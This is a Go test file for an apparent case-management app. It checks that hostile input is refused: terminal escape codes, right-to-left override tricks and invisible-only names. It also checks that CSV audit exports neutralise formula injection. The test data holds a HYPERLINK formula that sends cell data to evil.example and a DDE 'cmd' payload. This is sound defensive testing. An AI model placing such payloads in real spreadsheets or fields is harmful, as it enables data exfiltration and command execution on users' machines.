package app

import (
	"bytes"
	"encoding/csv"
	"errors"
	"reflect"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"casevault/store"
	"casevault/vault"
)

// hostileNames try to take over a terminal, fake a table row, reorder what
// is shown, or look empty.
var hostileNames = map[string]string{
	"OSC title":        "Eve \x1b]0;pwn\x07",
	"ANSI clear":       "Eve \x1b[2J",
	"carriage return":  "Eve\rMallory",
	"RLO override":     "Eve \u202etxt.exe",
	"isolate":          "Eve \u2066x\u2069",
	"newline":          "Eve\n2\tFake Row",
	"tab":              "Eve\tMallory",
	"0xff":             "Eve \xff",
	"C1 control":       "Eve \u009b31m",
	"line separator":   "Eve\u2028Mallory",
	"zero-width space": "\u200b",
	"lone BOM":         "\ufeff",
	"only joiners":     "\u200b\u200d\u2060 ",
	"hangul filler":    "\u3164",
}

func TestHostileTextRefused(t *testing.T) {
	s, _, _ := testSession(t)
	id, err := s.AddClient(ctx, ClientInput{Name: ptr("Ada Lovelace")})
	if err != nil {
		t.Fatal(err)
	}
	mid, err := s.AddMatter(ctx, MatterInput{ClientID: id, Title: "Estate"})
	if err != nil {
		t.Fatal(err)
	}
	type try struct {
		field string
		do    func(v string) error
	}
	tries := []try{
		{"name", func(v string) error { _, err := s.AddClient(ctx, ClientInput{Name: &v}); return err }},
		{"name", func(v string) error { return s.EditClient(ctx, id, ClientInput{Name: &v}) }},
		{"alias", func(v string) error { return s.EditClient(ctx, id, ClientInput{Aliases: &[]string{v}}) }},
		{"email", func(v string) error { return s.EditClient(ctx, id, ClientInput{Email: &v}) }},
		{"title", func(v string) error { _, err := s.AddMatter(ctx, MatterInput{ClientID: id, Title: v}); return err }},
		{"adverse", func(v string) error {
			_, err := s.AddMatter(ctx, MatterInput{ClientID: id, Title: "T", Adverse: []string{v}})
			return err
		}},
		{"names", func(v string) error { _, err := s.CheckConflicts(ctx, []string{"Ada", v}); return err }},
	}
	for what, v := range hostileNames {
		for _, tr := range tries {
			if tr.field == "email" && !strings.HasPrefix(v, "Eve") {
				continue // an invisible-only e-mail is trimmed to empty, which clears it
			}
			if tr.field == "names" && !strings.HasPrefix(v, "Eve") {
				continue // an invisible-only name to check is skipped like a blank one
			}
			before := snap(t, s)
			err := tr.do(v)
			var fe *FieldError
			if !errors.As(err, &fe) || fe.Field != tr.field || !errors.Is(err, ErrInvalid) {
				t.Errorf("%s in %s: got %v, want a refusal of %s", what, tr.field, err, tr.field)
				continue
			}
			if strings.ContainsAny(fe.Message, "\x1b\r\n\u202e") || !utf8.ValidString(fe.Message) {
				t.Errorf("%s in %s: the message repeats the raw text: %q", what, tr.field, fe.Message)
			}
			if after := snap(t, s); !reflect.DeepEqual(before, after) {
				t.Errorf("%s in %s: a refused input changed the vault", what, tr.field)
			}
		}
	}
	// Notes keep line breaks and tabs, and Windows line ends become line
	// breaks; other control characters are refused.
	if err := s.EditClient(ctx, id, ClientInput{Notes: ptr("first line\r\n\tsecond line\rthird")}); err != nil {
		t.Fatal(err)
	}
	if d, _ := s.GetClient(ctx, id); d.Notes != "first line\n\tsecond line\nthird" {
		t.Errorf("notes stored as %q", d.Notes)
	}
	for _, bad := range []string{"a\x1b[2Jb", "bell\x07", "\xff", "\u200b"} {
		if _, err := s.AddNote(ctx, mid, bad); !errors.Is(err, ErrInvalid) {
			t.Errorf("note %q: %v, want refused", bad, err)
		}
		if err := s.EditClient(ctx, id, ClientInput{Notes: &bad}); bad != "\u200b" && !errors.Is(err, ErrInvalid) {
			t.Errorf("client notes %q: %v, want refused", bad, err)
		}
	}
	// Right-to-left writing keeps its marks in notes, and joiners in names.
	if _, err := s.AddNote(ctx, mid, "שלום \u200fעולם\nline two"); err != nil {
		t.Errorf("note with a right-to-left mark: %v", err)
	}
	if _, err := s.AddClient(ctx, ClientInput{Name: ptr("می\u200cخواهم")}); err != nil {
		t.Errorf("Persian name with a zero-width non-joiner: %v", err)
	}
	// Invisible characters at the ends are trimmed, like spaces.
	nid, err := s.AddClient(ctx, ClientInput{Name: ptr("\ufeffGrace Hopper\u200b ")})
	if err != nil {
		t.Fatal(err)
	}
	if d, _ := s.GetClient(ctx, nid); d.Name != "Grace Hopper" {
		t.Errorf("name stored as %q", d.Name)
	}
}

// TestLimitsCountCharacters: 3,000 emoji are 3,000 characters (12,000
// bytes), within the 10,000 limit; the refusal counts characters too.
func TestLimitsCountCharacters(t *testing.T) {
	s, _, _ := testSession(t)
	if _, err := s.AddClient(ctx, ClientInput{Name: ptr(strings.Repeat("😀", 3000))}); err != nil {
		t.Errorf("3,000 emoji refused: %v", err)
	}
	_, err := s.AddClient(ctx, ClientInput{Name: ptr(strings.Repeat("😀", 10001))})
	var fe *FieldError
	if !errors.As(err, &fe) || fe.Message != "The name is too long (10,001 characters; at most 10,000)" {
		t.Errorf("10,001 emoji: %v", err)
	}
	id, _ := s.AddClient(ctx, ClientInput{Name: ptr("N")})
	notes := strings.Repeat("é", 600000) // 1.2 MB, 600,000 characters
	if err := s.EditClient(ctx, id, ClientInput{Notes: &notes}); err != nil {
		t.Errorf("600,000 characters of notes refused: %v", err)
	}
	notes = strings.Repeat("x", 1000001)
	err = s.EditClient(ctx, id, ClientInput{Notes: &notes})
	if !errors.As(err, &fe) || fe.Message != "The notes are too long (1,000,001 characters; at most 1,000,000)" {
		t.Errorf("long notes: %v", err)
	}
}

// TestFieldMessagesAreSentences: a field's message names the field in words
// and reads on its own ("name a client needs a name" was the old glue).
func TestFieldMessagesAreSentences(t *testing.T) {
	s, _, _ := testSession(t)
	_, err := s.AddClient(ctx, ClientInput{Name: ptr("  ")})
	if got := Message(err); got != "A client needs a name. Nothing was changed." {
		t.Errorf("Message = %q", got)
	}
	if got := ValidateField("phone", strings.Repeat("1", 10001), time.Now()); got != "The phone number is too long (10,001 characters; at most 10,000)" {
		t.Errorf("ValidateField = %q", got)
	}
}

// TestCSVExportNeutralisesFormulas: a cell that starts with = + - @ (or a
// tab or CR) is prefixed with ' whatever its column, and control and
// direction characters are escaped.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	dir, _ := newTestVault(t)
	for _, actor := range []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx", "a\x1b]0;pwn\x07\u202eb"} {
		s, err := Open(ctx, dir, vault.Passphrase([]byte(testPass)), Options{Actor: actor})
		if err != nil {
			t.Fatal(err)
		}
		s.Close(ctx)
	}
	s := openTest(t, dir)
	var buf bytes.Buffer
	if _, err := s.ExportAuditCSV(ctx, store.AuditFilter{}, &buf); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := 0
	for _, row := range rows {
		for _, c := range row {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("cell %q starts with a formula character", c)
			}
			if strings.HasPrefix(c, "'=HYPERLINK") {
				seen++
			}
		}
	}
	if seen == 0 {
		t.Errorf("the actor's cell was not exported as '=HYPERLINK...:\n%s", buf.String())
	}
	for _, bad := range []string{"\x1b", "\u202e", "\x07"} {
		if strings.Contains(buf.String(), bad) {
			t.Errorf("the CSV holds %q raw", bad)
		}
	}
	for in, want := range map[string]string{"Jane": "Jane", "=1+1": "'=1+1", "-": "'-", "\t1": `'\t1`, "a\nb": `a\nb`, "": ""} {
		if got := CSVCell(in); got != want {
			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
		}
	}
}
